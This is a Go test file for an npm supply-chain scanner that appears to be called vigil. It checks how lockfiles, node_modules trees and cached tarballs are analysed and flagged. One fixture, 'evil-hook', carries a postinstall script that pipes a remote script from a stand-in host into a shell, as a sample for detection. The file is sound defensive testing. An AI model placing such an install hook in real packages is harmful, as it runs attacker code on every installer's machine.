package cli

import (
	"encoding/hex"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vigil-sec/vigil/internal/npm"
	"github.com/vigil-sec/vigil/internal/tarball/tarballtest"
)

// A synthetic install-time dropper written for these tests: its
// postinstall downloads a script and pipes it into a shell.
var evilHookFiles = map[string]string{
	"package.json": `{"name":"evil-hook","version":"1.0.0","main":"index.js","license":"MIT",` +
		`"scripts":{"postinstall":"curl -fsSL https://payload.example.net/i.sh | sh"}}`,
	"index.js": "module.exports = function add(a, b) { return a + b; };\n",
}

func helperFiles() map[string]string {
	return map[string]string{
		"package.json": `{"name":"helper","version":"2.1.0","main":"index.js","license":"MIT","dependencies":{"evil-hook":"1.0.0"}}`,
		"index.js":     "module.exports = require('evil-hook');\n",
	}
}

func scopedFiles() map[string]string {
	return map[string]string{
		"package.json": `{"name":"@acme/colors","version":"0.3.0","main":"index.js","license":"MIT"}`,
		"index.js":     "module.exports = { red: '#f00', green: '#0f0' };\n",
	}
}

// dep is one package of a test project: its files, and the tarball npm
// would have published from them.
type dep struct {
	name, version string
	files         map[string]string
	tgz           []byte
	deps          []string // names it depends on
}

func (d *dep) path() string {
	base := d.name
	if s := npm.Scope(d.name); s != "" {
		base = d.name[len(s)+1:]
	}
	return "/" + d.name + "/-/" + base + "-" + d.version + ".tgz"
}

func testDeps(t *testing.T) []*dep {
	t.Helper()
	ds := []*dep{
		{name: "tiny-pad", version: "1.0.0", files: benignFiles},
		{name: "helper", version: "2.1.0", files: helperFiles(), deps: []string{"evil-hook"}},
		{name: "evil-hook", version: "1.0.0", files: evilHookFiles},
		{name: "@acme/colors", version: "0.3.0", files: scopedFiles()},
	}
	for _, d := range ds {
		d.tgz = tarballtest.Pack(t, d.files)
	}
	return ds
}

// serve puts the tarballs on the fake registry at their conventional
// paths.
func serve(fake *fakeNPM, ds []*dep) {
	fake.mu.Lock()
	defer fake.mu.Unlock()
	for _, d := range ds {
		fake.tarballs[d.path()] = d.tgz
	}
}

func (f *fakeNPM) tarballRequests() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	n := 0
	for _, r := range f.requests {
		if strings.Contains(r, "/-/") {
			n++
		}
	}
	return n
}

// writeLockfile writes a package-lock.json v3 the way npm 7+ does: the root
// depends on tiny-pad, helper and @acme/colors; helper brings evil-hook; a
// workspace package is linked in. Resolved URLs point at registryURL.
func writeLockfile(t *testing.T, dir, registryURL string, ds []*dep) string {
	t.Helper()
	pkgs := map[string]any{
		"": map[string]any{
			"name": "shop", "version": "1.0.0", "workspaces": []string{"packages/*"},
			"dependencies": map[string]string{"tiny-pad": "^1.0.0", "helper": "^2.1.0", "@acme/colors": "0.3.0", "local-lib": "*"},
		},
		"node_modules/local-lib": map[string]any{"resolved": "packages/local-lib", "link": true},
		"packages/local-lib":     map[string]any{"name": "local-lib", "version": "0.1.0"},
	}
	for _, d := range ds {
		entry := map[string]any{"version": d.version, "resolved": strings.TrimSuffix(registryURL, "/") + d.path(), "integrity": sri(d.tgz), "license": "MIT"}
		if len(d.deps) > 0 {
			m := map[string]string{}
			for _, n := range d.deps {
				m[n] = "1.0.0"
			}
			entry["dependencies"] = m
		}
		pkgs["node_modules/"+d.name] = entry
	}
	data, err := json.MarshalIndent(map[string]any{"name": "shop", "version": "1.0.0", "lockfileVersion": 3, "requires": true, "packages": pkgs}, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(dir, "package-lock.json")
	writeFile(t, p, string(data))
	return p
}

// projectEnv isolates a test from the developer's caches: an empty npm
// cache and a fresh verdict cache.
func projectEnv(t *testing.T) (verdicts, npmCacheDir string) {
	t.Helper()
	verdicts, npmCacheDir = filepath.Join(t.TempDir(), "verdicts"), filepath.Join(t.TempDir(), "npm")
	t.Setenv("VIGIL_CACHE_DIR", verdicts)
	t.Setenv("npm_config_cache", npmCacheDir)
	return verdicts, npmCacheDir
}

// projectDoc is the part of the JSON document these tests read.
type projectDoc struct {
	SchemaVersion string `json:"schema_version"`
	Summary       struct {
		Reports    int            `json:"reports"`
		Analysed   int            `json:"analysed"`
		Clean      int            `json:"clean"`
		Suspicious int            `json:"suspicious"`
		Malicious  int            `json:"malicious"`
		Errors     int            `json:"errors"`
		CacheHits  int            `json:"cache_hits"`
		Skipped    int            `json:"skipped"`
		Sources    map[string]int `json:"sources"`
	} `json:"summary"`
	Projects []struct {
		Path      string         `json:"path"`
		Kind      string         `json:"kind"`
		Format    string         `json:"format"`
		Packages  int            `json:"packages"`
		Installed int            `json:"installed"`
		Skipped   map[string]int `json:"skipped"`
		Error     string         `json:"error"`
	} `json:"projects"`
	Reports []struct {
		Target    string     `json:"target"`
		Kind      string     `json:"kind"`
		Status    string     `json:"status"`
		Error     string     `json:"error"`
		Package   string     `json:"package"`
		Version   string     `json:"version"`
		Integrity string     `json:"integrity"`
		Verdict   string     `json:"verdict"`
		Project   string     `json:"project"`
		Source    string     `json:"source"`
		Location  string     `json:"location"`
		Cached    bool       `json:"cached"`
		Paths     [][]string `json:"paths"`
		Warnings  []string   `json:"tarball_warnings"`
		Findings  []struct {
			Rule string `json:"rule"`
			File string `json:"file"`
		} `json:"findings"`
		Fetch *struct {
			TarballURL string `json:"tarball_url"`
			Verified   bool   `json:"verified"`
			Note       string `json:"note"`
		} `json:"fetch"`
	} `json:"reports"`
}

func parseProjectDoc(t *testing.T, out string) projectDoc {
	t.Helper()
	var doc projectDoc
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("JSON does not parse: %v\n%s", err, out)
	}
	return doc
}

func (d *projectDoc) report(t *testing.T, target string) int {
	t.Helper()
	for i, r := range d.Reports {
		if r.Target == target {
			return i
		}
	}
	t.Fatalf("no report for %s in %+v", target, d.Reports)
	return -1
}

func TestAnalyzeLockfileFromRegistryThenCache(t *testing.T) {
	projectEnv(t)
	fake, url := newFakeNPM(t)
	ds := testDeps(t)
	serve(fake, ds)
	lock := writeLockfile(t, t.TempDir(), url, ds)

	code, out, errs := run(t, "analyze", lock, "--format", "json")
	if code != ExitFindings {
		t.Fatalf("exit %d, want %d (evil-hook is malicious); stderr %s\n%s", code, ExitFindings, errs, out)
	}
	doc := parseProjectDoc(t, out)
	if doc.SchemaVersion != "1.1" || len(doc.Reports) != 4 || doc.Summary.Malicious != 1 || doc.Summary.Clean != 3 ||
		doc.Summary.Sources["registry"] != 4 || doc.Summary.CacheHits != 0 || doc.Summary.Skipped != 2 {
		t.Fatalf("first run: %+v", doc.Summary)
	}
	if p := doc.Projects[0]; p.Kind != "lockfile" || p.Format != "package-lock.json v3" || p.Packages != 4 || p.Skipped["link"] != 1 || p.Skipped["workspace"] != 1 {
		t.Errorf("project: %+v", p)
	}
	evil := doc.Reports[doc.report(t, "evil-hook@1.0.0")]
	if evil.Verdict != "malicious" || evil.Kind != "dependency" || evil.Project != lock || evil.Source != "registry" ||
		evil.Fetch == nil || !evil.Fetch.Verified || !strings.Contains(evil.Fetch.Note, "lockfile's integrity") || evil.Integrity != sri(ds[2].tgz) {
		t.Errorf("evil-hook: %+v", evil)
	}
	if len(evil.Paths) != 1 || strings.Join(evil.Paths[0], " › ") != "shop › helper@2.1.0 › evil-hook@1.0.0" {
		t.Errorf("evil-hook paths: %v", evil.Paths)
	}
	if pad := doc.Reports[doc.report(t, "tiny-pad@1.0.0")]; pad.Verdict != "clean" || pad.Paths != nil {
		t.Errorf("a clean package carries paths or a wrong verdict: %+v", pad)
	}
	if got := fake.tarballRequests(); got != 4 {
		t.Fatalf("%d tarball requests, want 4", got)
	}

	// The second run is served from the verdict cache: no tarball is
	// downloaded again, and the verdicts are the same.
	code, out, errs = run(t, "analyze", lock, "--format", "json")
	if code != ExitFindings {
		t.Fatalf("second run: exit %d; stderr %s", code, errs)
	}
	doc = parseProjectDoc(t, out)
	if got := fake.tarballRequests(); got != 4 {
		t.Errorf("second run downloaded %d more tarballs, want none", got-4)
	}
	if doc.Summary.CacheHits != 4 || doc.Summary.Sources["verdict-cache"] != 4 || doc.Summary.Malicious != 1 {
		t.Errorf("second run: %+v", doc.Summary)
	}
	evil = doc.Reports[doc.report(t, "evil-hook@1.0.0")]
	if !evil.Cached || evil.Verdict != "malicious" || len(evil.Findings) == 0 || len(evil.Paths) != 1 {
		t.Errorf("cached evil-hook: %+v", evil)
	}

	// --no-cache analyses everything again.
	if code, _, _ := run(t, "analyze", lock, "--no-cache", "--format", "json"); code != ExitFindings {
		t.Errorf("--no-cache: exit %d", code)
	}
	if got := fake.tarballRequests(); got != 8 {
		t.Errorf("--no-cache: %d tarball requests in all, want 8", got)
	}

	// The table shows the flagged package with its path, and a summary.
	if code, out, _ = run(t, "analyze", lock); code != ExitFindings {
		t.Errorf("table: exit %d", code)
	}
	for _, want := range []string{"evil-hook@1.0.0  MALICIOUS", "path: shop › helper@2.1.0 › evil-hook@1.0.0", "summary: 4 packages analysed — 3 clean, 0 suspicious, 1 malicious",
		"verdict cache: 4 of 4 served from the cache", "2 skipped (workspace 1, link 1)"} {
		if !strings.Contains(out, want) {
			t.Errorf("table lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "tiny-pad@1.0.0  CLEAN") {
		t.Errorf("the table lists clean dependencies:\n%s", out)
	}
}

func TestAnalyzeLockfileFailures(t *testing.T) {
	projectEnv(t)
	fake, url := newFakeNPM(t)
	ds := testDeps(t)
	serve(fake, ds[:1]) // only tiny-pad is on the registry
	// helper's tarball is served with other bytes than the lockfile
	// records.
	fake.tarballs[ds[1].path()] = tarballtest.Pack(t, map[string]string{"package.json": `{"name":"helper","version":"2.1.0"}`, "index.js": "/* swapped */"})
	lock := writeLockfile(t, t.TempDir(), url, ds)

	code, out, errs := run(t, "analyze", lock, "--format", "json")
	if code != ExitClean {
		t.Fatalf("exit %d, want %d: unreadable packages count as suspicious, below the default --fail-on; stderr %s", code, ExitClean, errs)
	}
	doc := parseProjectDoc(t, out)
	if doc.Summary.Errors != 3 || doc.Summary.Clean != 1 {
		t.Fatalf("summary %+v", doc.Summary)
	}
	helper := doc.Reports[doc.report(t, "helper@2.1.0")]
	if helper.Status != "error" || !strings.Contains(helper.Error, "integrity") || len(helper.Paths) != 1 {
		t.Errorf("swapped tarball: %+v", helper)
	}
	if r := doc.Reports[doc.report(t, "evil-hook@1.0.0")]; r.Status != "error" || !strings.Contains(r.Error, "404") {
		t.Errorf("missing tarball: %+v", r)
	}
	if !strings.Contains(errs, "could not be analysed") {
		t.Errorf("stderr: %s", errs)
	}
	if code, _, _ := run(t, "analyze", lock, "--fail-on", "suspicious"); code != ExitFindings {
		t.Errorf("--fail-on suspicious: exit %d, want %d", code, ExitFindings)
	}

	// An unreadable lockfile is an error entry; with nothing else, exit 127.
	bad := filepath.Join(t.TempDir(), "package-lock.json")
	writeFile(t, bad, `{"lockfileVersion": 3, "packages": [`)
	code, out, errs = run(t, "analyze", bad, "--format", "json")
	doc = parseProjectDoc(t, out)
	if code != ExitUnexpected || len(doc.Reports) != 1 || doc.Reports[0].Kind != "lockfile" || doc.Projects[0].Error == "" {
		t.Errorf("bad lockfile: exit %d, stderr %s\n%s", code, errs, out)
	}

	// A lockfile without third-party packages: nothing to analyse.
	empty := filepath.Join(t.TempDir(), "package-lock.json")
	writeFile(t, empty, `{"name":"x","lockfileVersion":3,"packages":{"":{"name":"x"}}}`)
	if code, _, errs := run(t, "analyze", empty); code != ExitNothing || !strings.Contains(errs, "no third-party package") {
		t.Errorf("empty lockfile: exit %d, stderr %s", code, errs)
	}
}

// writeCacache stores data in a cacache layout as npm does:
// content-v2/sha512/<2 hex>/<2 hex>/<rest>.
func writeCacache(t *testing.T, cacheRoot string, integrity string, data []byte) string {
	t.Helper()
	i, err := npm.ParseIntegrity(integrity)
	if err != nil {
		t.Fatal(err)
	}
	h := hex.EncodeToString(i.Digest)
	p := filepath.Join(cacheRoot, "_cacache", "content-v2", i.Algorithm, h[:2], h[2:4], h[4:])
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, data, 0o444); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestAnalyzeLockfileOfflineFromNPMCache(t *testing.T) {
	_, npmDir := projectEnv(t)
	ds := testDeps(t)
	lock := writeLockfile(t, t.TempDir(), "https://registry.npmjs.org/", ds)
	for _, d := range ds[:3] {
		writeCacache(t, npmDir, sri(d.tgz), d.tgz)
	}
	// @acme/colors's cache entry holds other bytes: it must not be
	// analysed in place of the real package.
	writeCacache(t, npmDir, sri(ds[3].tgz), tarballtest.Pack(t, map[string]string{"package.json": `{"name":"@acme/colors","version":"0.3.0"}`}))

	code, out, errs := run(t, "analyze", lock, "--offline", "--format", "json")
	if code != ExitFindings {
		t.Fatalf("exit %d; stderr %s\n%s", code, errs, out)
	}
	doc := parseProjectDoc(t, out)
	if doc.Summary.Sources["npm-cache"] != 3 || doc.Summary.Malicious != 1 || doc.Summary.Errors != 1 {
		t.Fatalf("summary %+v", doc.Summary)
	}
	evil := doc.Reports[doc.report(t, "evil-hook@1.0.0")]
	if evil.Source != "npm-cache" || !strings.Contains(evil.Location, filepath.Join("_cacache", "content-v2", "sha512")) || evil.Fetch != nil {
		t.Errorf("evil-hook: %+v", evil)
	}
	colors := doc.Reports[doc.report(t, "@acme/colors@0.3.0")]
	if colors.Status != "error" || !strings.Contains(colors.Error, "--offline") || len(colors.Warnings) != 1 || !strings.Contains(colors.Warnings[0], "does not match its integrity") {
		t.Errorf("tampered cache entry: %+v", colors)
	}
	if code, _, _ := run(t, "analyze", "--offline", "left-pad@1.3.0"); code != ExitUsage {
		t.Errorf("--offline with a registry target: exit %d, want %d", code, ExitUsage)
	}
}

// installTree lays out a node_modules tree the way npm installs it:
// packages as folders with their files, a nested copy under its parent.
func installTree(t *testing.T, root string, ds []*dep) {
	t.Helper()
	writeFile(t, filepath.Join(root, "package.json"), `{"name":"shop","version":"1.0.0","dependencies":{"tiny-pad":"^1.0.0","helper":"^2.1.0","@acme/colors":"0.3.0"}}`)
	for _, d := range ds {
		dir := filepath.Join(root, "node_modules", filepath.FromSlash(d.name))
		if d.name == "evil-hook" {
			dir = filepath.Join(root, "node_modules", "helper", "node_modules", "evil-hook")
		}
		for name, data := range d.files {
			writeFile(t, filepath.Join(dir, name), data)
		}
	}
}

func TestAnalyzeNodeModules(t *testing.T) {
	projectEnv(t)
	root := t.TempDir()
	ds := testDeps(t)
	installTree(t, root, ds)

	for _, target := range []string{root, filepath.Join(root, "node_modules")} {
		code, out, errs := run(t, "analyze", target, "--format", "json")
		if code != ExitFindings {
			t.Fatalf("%s: exit %d; stderr %s\n%s", target, code, errs, out)
		}
		doc := parseProjectDoc(t, out)
		if doc.Projects[0].Kind != "node_modules" || doc.Projects[0].Installed != 4 || doc.Summary.Sources["node_modules"] != 4 {
			t.Fatalf("%s: %+v %+v", target, doc.Projects, doc.Summary)
		}
		evil := doc.Reports[doc.report(t, "evil-hook@1.0.0")]
		if evil.Verdict != "malicious" || evil.Location != filepath.Join(root, "node_modules", "helper", "node_modules", "evil-hook") ||
			len(evil.Paths) == 0 || strings.Join(evil.Paths[0], " › ") != "shop › helper@2.1.0 › evil-hook@1.0.0" {
			t.Errorf("%s: evil-hook %+v", target, evil)
		}
		// helper's folder holds evil-hook's nested copy, which is not
		// helper's code: helper stays clean.
		helper := doc.Reports[doc.report(t, "helper@2.1.0")]
		if helper.Verdict != "clean" {
			t.Errorf("%s: helper is %s: its nested node_modules was analysed as its own code: %+v", target, helper.Verdict, helper.Findings)
		}
	}
	// The second run above was served from the cache; editing an installed
	// file makes that package a different package.
	writeFile(t, filepath.Join(root, "node_modules", "tiny-pad", "index.js"), "module.exports = 1;\n")
	_, out, _ := run(t, "analyze", root, "--format", "json")
	doc := parseProjectDoc(t, out)
	if doc.Summary.CacheHits != 3 {
		t.Errorf("after editing tiny-pad: %d cache hits, want 3", doc.Summary.CacheHits)
	}
	if r := doc.Reports[doc.report(t, "tiny-pad@1.0.0")]; r.Cached {
		t.Errorf("the edited package was served from the cache")
	}

	// A package folder inside node_modules is one package, even with a
	// nested node_modules of its own (read with it: 4 files).
	code, out, _ := run(t, "analyze", filepath.Join(root, "node_modules", "helper"))
	if code != ExitClean || !strings.Contains(out, "helper@2.1.0  CLEAN") || !strings.Contains(out, "(folder)") || !strings.Contains(out, "read: 4 files") {
		t.Errorf("installed package folder with nested dependencies: exit %d\n%s", code, out)
	}
}

func TestAnalyzeLockfilePrefersInstalledFolder(t *testing.T) {
	projectEnv(t)
	fake, url := newFakeNPM(t)
	ds := testDeps(t)
	serve(fake, ds)
	root := t.TempDir()
	installTree(t, root, ds[:2]) // tiny-pad and helper installed; the rest is not
	lock := writeLockfile(t, root, url, ds)

	code, out, errs := run(t, "analyze", lock, "--format", "json")
	if code != ExitFindings {
		t.Fatalf("exit %d; stderr %s", code, errs)
	}
	doc := parseProjectDoc(t, out)
	if doc.Summary.Sources["node_modules"] != 2 || doc.Summary.Sources["registry"] != 2 || doc.Projects[0].Installed != 2 {
		t.Errorf("sources %+v, project %+v", doc.Summary.Sources, doc.Projects[0])
	}
	if got := fake.tarballRequests(); got != 2 {
		t.Errorf("%d tarballs downloaded, want the 2 not installed", got)
	}
}

func TestClassifyTarget(t *testing.T) {
	root := t.TempDir()
	project := filepath.Join(root, "app")
	writeFile(t, filepath.Join(project, "package.json"), `{}`)
	writeFile(t, filepath.Join(project, "node_modules", "dep", "package.json"), `{}`)
	writeFile(t, filepath.Join(project, "node_modules", "dep", "node_modules", "sub", "package.json"), `{}`)
	pkg := filepath.Join(root, "pkg")
	writeFile(t, filepath.Join(pkg, "package.json"), `{}`)
	lock := filepath.Join(root, "yarn.lock")
	writeFile(t, lock, "")
	tgz := filepath.Join(root, "x.tgz")
	writeFile(t, tgz, "")
	tests := []struct {
		arg  string
		deps bool
		want targetKind
		err  bool
	}{
		{arg: pkg, want: kindFolder},
		{arg: pkg, deps: true, err: true},
		{arg: project, want: kindNodeModules},
		{arg: filepath.Join(project, "node_modules"), want: kindNodeModules},
		{arg: filepath.Join(project, "node_modules", "dep"), want: kindFolder},
		{arg: filepath.Join(project, "node_modules", "dep"), deps: true, want: kindNodeModules},
		{arg: lock, want: kindLockfile},
		{arg: tgz, want: kindTarball},
		{arg: "left-pad@1.3.0", want: kindRegistry},
		{arg: "@scope/pkg@1.0.0", want: kindRegistry},
		{arg: "package-lock.json", err: true},
		{arg: "missing/x.tgz", err: true},
		{arg: "left-pad", err: true},
	}
	for _, tt := range tests {
		got, err := classifyTarget(tt.arg, tt.deps)
		if (err != nil) != tt.err || (err == nil && got.kind != tt.want) {
			t.Errorf("classifyTarget(%q, deps=%t) = %q, %v; want %q (error %t)", tt.arg, tt.deps, got.kind, err, tt.want, tt.err)
		}
	}
}
